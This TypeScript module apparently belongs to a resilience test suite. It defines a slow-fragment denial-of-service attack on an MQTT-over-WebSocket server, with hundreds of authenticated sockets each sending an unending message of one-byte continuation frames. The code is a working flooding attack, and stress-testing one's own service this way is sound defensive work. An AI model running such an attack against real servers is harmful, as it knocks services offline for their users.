import mqttPacket from 'mqtt-packet'
import type { Attack } from '../../support/attacker.ts'
import { keepOpen, messageOf, upgradeText } from '../../support/flooding.ts'
import { connectPacket, frameHead } from '../../support/raw-peer.ts'

/** Visitors' sockets, past CONNACK, each with an endless message of one-byte fragments. */
export const attack: Attack = (target) => {
  const visitors = target.given.visitors as { uid: string; token: string }[]
  const first = Buffer.concat([frameHead('binary', 1, 'more'), Buffer.from([0x30])])
  const fragments = Buffer.concat(
    Array.from({ length: 16_300 }, () => Buffer.concat([frameHead('continuation', 1, 'more'), Buffer.from([0x80])])),
  )
  let count = 0
  return keepOpen(target, { sockets: 500, addresses: 50, perSecond: 120 }, (socket) => {
    count += 1
    const visitor = visitors[count % visitors.length] ?? { uid: '', token: '' }
    const hello = connectPacket(visitor, { clientId: `${visitor.uid}/web/f${count}`, clean: true })
    socket.write(upgradeText)
    socket.once('data', () => {
      socket.write(messageOf(mqttPacket.generate(hello)))
      socket.once('data', () => socket.resume().write(Buffer.concat([first, fragments])))
    })
  })
}
